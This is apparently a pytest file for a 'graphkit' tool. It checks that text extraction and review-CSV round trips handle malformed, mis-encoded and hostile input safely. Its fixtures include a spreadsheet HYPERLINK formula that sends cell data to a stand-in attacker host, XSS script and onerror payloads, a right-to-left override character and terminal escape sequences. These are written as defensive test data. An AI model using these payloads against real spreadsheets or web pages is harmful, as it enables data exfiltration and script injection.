"""Issue 19's probes of text extraction and the review round trip, through the installed
``graphkit`` command: odd texts (empty, blank, binary, another encoding, control
characters and terminal escapes, HTML, formulas), payloads in actor names and documents
reaching the review CSV, and review tables as people return them (columns removed,
reordered or added, formula cells, another encoding, a semicolon list, a column twice).

Each case asserts the one right behaviour: the relations a reader finds in the text, or
one clear located error; a review CSV no spreadsheet runs; and an edited review accepted
exactly or refused with its line and column, nothing dropped silently.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import graphkit as gk

pytestmark = [pytest.mark.slow, pytest.mark.model]

EXE = Path(sys.executable).with_name("graphkit")
COMMAND = [str(EXE)] if EXE.exists() else [sys.executable, "-m", "graphkit"]
FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")'
SCRIPT = "<script>alert(1)</script>"


def graphkit(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    done = subprocess.run(
        [*COMMAND, *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        encoding="utf-8",
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        timeout=600,
    )
    assert "Traceback" not in done.stderr, done.stderr
    return done


def actors(folder: Path) -> None:
    """The bundled actors, and one whose name, alias and description are payloads."""
    G = gk.load_dataset()
    columns = ("name", "kind", "aliases", "country", "description")
    rows = [{"id": n, **{k: d[k] for k in columns if k in d}} for n, d in G.nodes(data=True)]
    rows.append(
        {
            "id": "evil",
            "name": FORMULA,
            "kind": "armed_group",
            "aliases": f"Evil Front|{SCRIPT} Brigade|\u202eRLO Front",
            "description": '<img src=x onerror="alert(1)">',
        }
    )
    pd.DataFrame(rows).to_csv(folder / "a.csv", index=False)


TEXTS = {
    # name: (content, the (source, relation, target) triples a reader finds)
    "plain.txt": (
        "Turkey backs the Evil Front. Iran opposes HTS.\n",
        {"turkey backs evil", "iran opposes hts"},
    ),
    "empty.txt": ("", set()),
    "blank.txt": ("  \n\t\n\u00a0\n", set()),
    "html.txt": (
        f"<html><body><p>Turkey backs HTS.</p>{SCRIPT}<p>Iran opposes HTS.</p></body></html>\n",
        {"turkey backs hts", "iran opposes hts"},
    ),
    "escapes.txt": (
        "Turkey\x1b[2J backs HTS.\x07 Iran\x1b]0;pwned\x07 opposes HTS.\n",
        {"turkey backs hts", "iran opposes hts"},
    ),
    "formulas.txt": (
        "=Turkey backs HTS.\n+Iran opposes the Evil Front.\n",
        {"turkey backs hts", "iran opposes evil"},
    ),
    "rlo.txt": ("Turkey backs the \u202eRLO Front.\n", {"turkey backs evil"}),
}


@pytest.fixture(scope="module")
def extracted(tmp_path_factory):
    """One ``extract`` run over every odd text, with a payload as document name for the
    formulas; the review it wrote and its stderr."""
    folder = tmp_path_factory.mktemp("extract")
    actors(folder)
    for name, (content, _) in TEXTS.items():
        (folder / name).write_text(content, encoding="utf-8")
    done = graphkit("extract", *TEXTS, "--actors", "a.csv", "-o", "review.csv", cwd=folder)
    named = graphkit(
        "extract",
        "formulas.txt",
        "--actors",
        "a.csv",
        "--document",
        FORMULA,
        "-o",
        "named.csv",
        cwd=folder,
    )
    return folder, done, named


@pytest.mark.parametrize("text", list(TEXTS))
def test_each_odd_text_gives_the_relations_it_states(extracted, text):
    folder, done, _ = extracted
    assert done.returncode == 0, done.stderr
    review = gk.read_review(folder / "review.csv")
    rows = review[review["document"] == text]
    found = {f"{r.source} {r.relation} {r.target}" for r in rows.itertuples()}
    assert found == TEXTS[text][1]
    if not TEXTS[text][1]:
        assert f"{text}" in done.stderr and "empty or blank" in done.stderr  # said, not silent


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("review", ["review.csv", "named.csv"])
def test_the_review_csv_runs_no_formula_and_reads_back_exactly(extracted, review):
    folder, done, named = extracted
    assert done.returncode == named.returncode == 0, named.stderr
    for cell in cells(folder / review):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only numbers may start so
    table = gk.read_review(folder / review)
    if review == "named.csv":
        assert set(table["document"]) == {FORMULA}
    else:
        assert "=Turkey backs HTS." in set(table["evidence"])


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "holds binary data"),
        (
            "latin1.txt",
            "Turkey backs HTS in Alep\u00e9.\n".encode("latin-1"),
            "expected UTF-8 text",
        ),
        ("utf16.txt", "Turkey backs HTS.\n".encode("utf-16-le"), "UTF-16"),
        ("nul.txt", b"Turkey backs HTS.\x00 Iran opposes HTS.\n", "a NUL byte"),
    ],
)
def test_a_text_that_is_not_utf8_text_is_refused_naming_the_file(tmp_path, name, content, message):
    actors(tmp_path)
    (tmp_path / name).write_bytes(content)
    (tmp_path / "good.txt").write_text("Turkey backs HTS.\n")
    done = graphkit("extract", "good.txt", name, "--actors", "a.csv", "-o", "r.csv", cwd=tmp_path)
    assert done.returncode == 1 and done.stderr.startswith(f"graphkit: error: {name}")
    assert message in done.stderr, done.stderr
    assert not (tmp_path / "r.csv").exists()


REVIEW = (
    "source,relation,target,code,modality,attributed_to,source_mention,target_mention,"
    "evidence,start_char,end_char,trigger,start,date_basis,confidence,rule,document,"
    "reported,negated,hedged,hypothetical,ok\n"
    "turkey,backs,evil,070,asserted,,Turkey,Evil Front,'=1+2 Turkey backs the Evil Front.,"
    "0,28,backs,,,0.9,verb:back,art.txt,,False,False,False,TRUE\n"
    "iran,opposes,hts,110,asserted,,Iran,HTS,Iran opposes HTS.,29,46,opposes,,,0.9,"
    "verb:oppose,art.txt,,False,False,False,FALSE\n"
)


def edited(folder: Path, how: str) -> Path:
    """The review as a person might return it."""
    table = pd.read_csv(pd.io.common.StringIO(REVIEW), dtype=str, keep_default_na=False)
    path = folder / f"{how.replace(' ', '_')}.csv"
    if how == "as written":
        path.write_text(REVIEW, encoding="utf-8")
    elif how == "reordered":
        table[list(reversed(table.columns))].to_csv(path, index=False)
    elif how == "notes added":
        table.insert(3, "note", [SCRIPT, "no"])
        table.to_csv(path, index=False)
    elif how == "ok removed":
        table.drop(columns="ok").to_csv(path, index=False)
    elif how == "source removed":
        table.drop(columns="source").to_csv(path, index=False)
    elif how == "ok twice":
        table.insert(0, "ok", "TRUE", allow_duplicates=True)
        table.to_csv(path, index=False)
    elif how == "formula typed":
        table.loc[0, "source"] = FORMULA
        table.to_csv(path, index=False)
    elif how == "bom":
        path.write_bytes(b"\xef\xbb\xbf" + REVIEW.encode("utf-8"))
    elif how == "cp1252":
        path.write_bytes(REVIEW.replace("Turkey backs", "T\u00fcrkiye backs").encode("cp1252"))
    elif how == "utf-16 tab-separated":
        table.to_csv(path, index=False, sep="\t", encoding="utf-16")
    elif how == "crlf":
        path.write_bytes(REVIEW.replace("\n", "\r\n").encode("utf-8"))
    return path


ACCEPTED = {
    # how: the relations accepted (exactly the ok row) or the words of the one error
    "as written": {("turkey", "evil", "backs", "=1+2 Turkey backs the Evil Front.")},
    "reordered": {("turkey", "evil", "backs", "=1+2 Turkey backs the Evil Front.")},
    "notes added": {("turkey", "evil", "backs", "=1+2 Turkey backs the Evil Front.")},
    "bom": {("turkey", "evil", "backs", "=1+2 Turkey backs the Evil Front.")},
    "crlf": {("turkey", "evil", "backs", "=1+2 Turkey backs the Evil Front.")},
    "ok removed": "column 'ok': expected a column named 'ok' in the header",
    "source removed": "column 'source': expected a column named 'source' in the header",
    "ok twice": "expected each column name once",
    "formula typed": "line 2, column 'source' (A)",
    "cp1252": "line 2, column 'evidence' (I)",
    "utf-16 tab-separated": "this one is UTF-16",
}


@pytest.fixture(scope="module")
def accepted(tmp_path_factory):
    """``accept`` of each edited review, all at once."""
    folder = tmp_path_factory.mktemp("accept")
    actors(folder)
    started = {}
    for how in ACCEPTED:
        path = edited(folder, how)
        target = folder / f"relations_{path.stem}.csv"
        started[how] = (
            subprocess.Popen(
                [*COMMAND, "accept", path.name, "--relations", target.name, "--actors", "a.csv"],
                cwd=folder,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                encoding="utf-8",
                env={**os.environ, "PYTHONIOENCODING": "utf-8"},
            ),
            target,
        )
    results = {}
    for how, (process, target) in started.items():
        _, err = process.communicate(timeout=300)
        results[how] = (process.returncode, err, target)
    return results


@pytest.mark.parametrize("how", list(ACCEPTED))
def test_an_edited_review_is_accepted_exactly_or_refused_where_it_is_wrong(accepted, how):
    code, err, target = accepted[how]
    assert "Traceback" not in err, err
    expected = ACCEPTED[how]
    if isinstance(expected, str):
        assert code == 1 and expected in err, err
        assert not target.exists()
        return
    assert code == 0, err
    relations = pd.read_csv(target, dtype=str, keep_default_na=False)
    got = {(r.source, r.target, r.relation, r.evidence) for r in relations.itertuples()}
    assert got == expected
    if how == "notes added":  # a column the analyst added is kept, not dropped silently
        assert list(relations["note"]) == [SCRIPT]
